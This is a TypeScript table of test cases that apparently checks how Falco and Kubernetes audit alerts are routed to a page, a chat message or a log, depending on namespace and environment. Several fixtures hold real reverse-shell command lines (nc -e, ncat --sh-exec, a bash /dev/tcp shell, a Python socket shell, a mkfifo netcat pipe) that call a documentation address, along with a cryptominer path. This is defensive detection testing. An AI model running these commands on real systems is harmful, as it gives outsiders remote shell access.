/** What pages, each line of it both ways. */

import {
  type Case,
  DEVELOPMENT,
  type Fields,
  HOST,
  inside,
  like,
  NOWHERE,
  PRODUCTION,
  process,
  SYSTEM,
  UNLISTED,
  UNSAID,
} from './places.ts';

const REDIRECT = 'network-redirect';
const DROPPED = 'exec-dropped-binary';
const UNTRUSTED = 'exec-run-shell-untrusted';
const DAEMON_SETS: Fields = { 'ka.user.name': 'system:serviceaccount:kube-system:daemon-set-controller' };
const privileged = (fields: Fields): string => like('audit-hostpid', fields, 'Create Privileged Pod');

export const PAGES: readonly Case[] = [
  ['release_agent is written', 'page', like('file-release-agent'), PRODUCTION],
  ['in development too', 'page', like('file-release-agent'), DEVELOPMENT],
  ['in kube-system', 'chat', like('file-release-agent'), SYSTEM],
  ['in gke-managed-system', 'chat', like('file-release-agent'), inside('gke-managed-system')],
  ['in gmp-system', 'chat', like('file-release-agent'), inside('gmp-system')],
  ['in a namespace that only sounds like it', 'page', like('file-release-agent'), inside('my-kube-system')],
  ['in a namespace that came too late', 'page', like('file-release-agent'), inside(null)],

  ['a binary from memory in a container', 'page', like('exec-memfd'), PRODUCTION],
  ['a binary from memory on a host', 'chat', like('exec-memfd', HOST), PRODUCTION],
  ['a binary from memory in kube-system', 'chat', like('exec-memfd'), SYSTEM],

  ['debugfs', 'page', like('exec-ptrace', process('debugfs'), 'Debugfs Launched in Privileged Container'), PRODUCTION],
  ['debugfs in kube-system', 'chat', like('exec-ptrace', {}, 'Debugfs Launched in Privileged Container'), SYSTEM],

  ['a kernel module', 'page', like('exec-kernel-module'), PRODUCTION],
  [
    'a kernel module of a GPU installer',
    'chat',
    like('exec-kernel-module', { 'container.image.repository': 'gcr.io/cos-cloud/cos-gpu-installer' }),
    PRODUCTION,
  ],
  [
    'a kernel module of an image that is not known yet',
    'page',
    like('exec-kernel-module', { 'container.image.repository': null }),
    PRODUCTION,
  ],

  ['netcat with exec', 'page', like('exec-netcat'), PRODUCTION],
  ['netcat with exec in kube-system', 'chat', like('exec-netcat'), SYSTEM],
  ['socat with EXEC on a host', 'page', like('host-netcat'), PRODUCTION],
  ['nc -e on a host', 'page', like('host-netcat', process('nc', 'nc -lp 4444 -e /bin/sh')), PRODUCTION],
  [
    'ncat --sh-exec on a host',
    'page',
    like('host-netcat', process('ncat', 'ncat --sh-exec id 203.0.113.9 1')),
    PRODUCTION,
  ],
  ['nc to a host with -c in its name', 'chat', like('host-netcat', process('nc', 'nc -z my-cluster 5432')), PRODUCTION],

  ['a program in /dev/shm', 'page', like('exec-dev-shm'), PRODUCTION],
  ['a program in /dev/shm on a host', 'chat', like('exec-dev-shm', HOST), PRODUCTION],

  ['a dropped binary in production', 'page', like(DROPPED), PRODUCTION],
  ['a dropped binary in development', 'chat', like(DROPPED), DEVELOPMENT],
  ['a dropped binary where nobody said what the cluster is for', 'page', like(DROPPED), UNSAID],
  ['a dropped binary in a cluster that is not listed', 'page', like(DROPPED), UNLISTED],
  ['a dropped binary in no cluster that anybody named', 'page', like(DROPPED), NOWHERE],
  ['a dropped binary in kube-system', 'chat', like(DROPPED), SYSTEM],
  ['a dropped binary in kube-system of who knows where', 'chat', like(DROPPED), inside('kube-system', NOWHERE)],
  ['a dropped binary of CI in production', 'chat', like(DROPPED), inside('ci')],
  ['a dropped binary of runners in production', 'chat', like(DROPPED), inside('github-runners')],
  ['a dropped binary in a namespace that only sounds like CI', 'page', like(DROPPED), inside('payment-runner')],
  ['a dropped binary in a namespace that came too late', 'page', like(DROPPED), inside(null)],
  ['a dropped miner in development', 'page', like(DROPPED, process('xmrig', '/tmp/xmrig', '/tmp/xmrig')), DEVELOPMENT],

  ['Python with a socket for its input', 'page', like(REDIRECT), PRODUCTION],
  ['bash with a socket for its input', 'page', like(REDIRECT, process('bash')), PRODUCTION],
  ['nc with a socket for its input', 'page', like(REDIRECT, process('nc')), DEVELOPMENT],
  ['nginx with a socket for its input', 'log only', like(REDIRECT, process('nginx')), PRODUCTION],
  ['php-fpm with a socket for its input', 'log only', like(REDIRECT, process('php-fpm8.2')), PRODUCTION],
  ['bash with a socket for its input in kube-system', 'chat', like(REDIRECT, process('bash')), SYSTEM],
  ['nginx with a socket for its input in kube-system', 'log only', like(REDIRECT, process('nginx')), SYSTEM],
  ['bash with a socket, in a namespace that came too late', 'page', like(REDIRECT, process('bash')), inside(null)],

  ['a shell from /tmp', 'page', like('shell-odd-path'), PRODUCTION],
  ['a shell from /tmp in development', 'page', like('shell-odd-path'), DEVELOPMENT],
  ['a shell from /tmp in kube-system', 'chat', like('shell-odd-path'), SYSTEM],
  ['a shell from memory', 'page', like('shell-terminal', { 'proc.exepath': 'memfd:x' }), PRODUCTION],
  ['a shell from /usr/local/bin', 'chat', like('shell-terminal', { 'proc.exepath': '/usr/local/bin/sh' }), PRODUCTION],
  ['a shell whose path Falco could not tell', 'chat', like('shell-terminal', { 'proc.exepath': null }), PRODUCTION],
  ['a dropped shell that a server starts', 'page', like(UNTRUSTED, { 'proc.exepath': '/var/tmp/sh' }), PRODUCTION],
  [
    'a dropped shell that a web server starts',
    'page',
    like('exec-web-shell', { 'proc.exepath': '/tmp/sh' }),
    PRODUCTION,
  ],

  ['a miner by its protocol', 'page', like('exec-miner'), DEVELOPMENT],
  ['a miner by its name', 'page', like('exec-miner', {}, 'Known Cryptominer Process Executed'), PRODUCTION],
  ['a miner in kube-system', 'chat', like('exec-miner'), SYSTEM],
  ['a reverse shell of a web server', 'page', like('exec-web-shell', {}, 'Reverse Shell from Web Server'), PRODUCTION],
  ['one in gmp-public', 'chat', like('exec-web-shell', {}, 'Reverse Shell from Web Server'), inside('gmp-public')],
  [
    'the same under the rule that comes first',
    'page',
    like('exec-web-shell', process('bash', "bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'")),
    PRODUCTION,
  ],
  [
    'a shell that waits for a port of its own',
    'log only',
    like(UNTRUSTED, process('bash', 'bash -c </dev/tcp/localhost/5432')),
    PRODUCTION,
  ],
  ['bash -i under a server', 'page', like(UNTRUSTED, process('bash', 'bash -i')), PRODUCTION],
  ['bash -i at a terminal', 'chat', like('shell-terminal', process('bash', 'bash -i')), PRODUCTION],
  ['a script in /dev/shm', 'page', like(UNTRUSTED, process('sh', 'sh /dev/shm/x.sh')), PRODUCTION],
  [
    'a script in /dev/shm on a host',
    'log only',
    like(UNTRUSTED, { ...process('sh', 'sh /dev/shm/x'), ...HOST }),
    UNSAID,
  ],
  [
    'Python as a reverse shell',
    'page',
    like(UNTRUSTED, process('sh', 'sh -c python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)')),
    PRODUCTION,
  ],
  [
    'Python that looks whether a port answers',
    'log only',
    like(UNTRUSTED, process('sh', 'sh -c python3 -c import socket;socket.create_connection(("db",5432))')),
    PRODUCTION,
  ],
  [
    'a pipe into a shell and netcat',
    'page',
    like(UNTRUSTED, process('sh', 'sh -c rm /tmp/f;mkfifo /tmp/f;\ncat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f')),
    PRODUCTION,
  ],

  [
    'the backdoored liblzma',
    'page',
    like('file-after-startup', {}, 'Backdoored library loaded into SSHD (CVE-2024-3094)'),
    PRODUCTION,
  ],
  [
    'the backdoored liblzma in kube-system',
    'chat',
    like('file-after-startup', {}, 'Backdoored library loaded into SSHD (CVE-2024-3094)'),
    SYSTEM,
  ],

  ['cluster-admin for somebody', 'page', like('audit-cluster-admin'), PRODUCTION],
  [
    'cluster-admin by the add-on manager',
    'chat',
    like('audit-cluster-admin', { 'ka.user.name': 'system:addon-manager' }),
    PRODUCTION,
  ],
  ['a pod with the host’s processes', 'page', like('audit-hostpid'), PRODUCTION],
  ['a pod with the host’s processes of a DaemonSet', 'chat', like('audit-hostpid', DAEMON_SETS), PRODUCTION],
  ['a privileged pod by somebody', 'page', privileged({}), PRODUCTION],
  ['a privileged pod by nobody that the log names', 'page', privileged({ 'ka.user.name': null }), PRODUCTION],
  ['a privileged pod of a DaemonSet', 'chat', privileged(DAEMON_SETS), PRODUCTION],
  [
    'a privileged pod by somebody in kube-system',
    'chat',
    privileged({ 'ka.target.namespace': 'kube-system' }),
    PRODUCTION,
  ],
  [
    'a privileged pod of a DaemonSet in kube-system',
    'log only',
    privileged({ ...DAEMON_SETS, 'ka.target.namespace': 'kube-system' }),
    PRODUCTION,
  ],
];
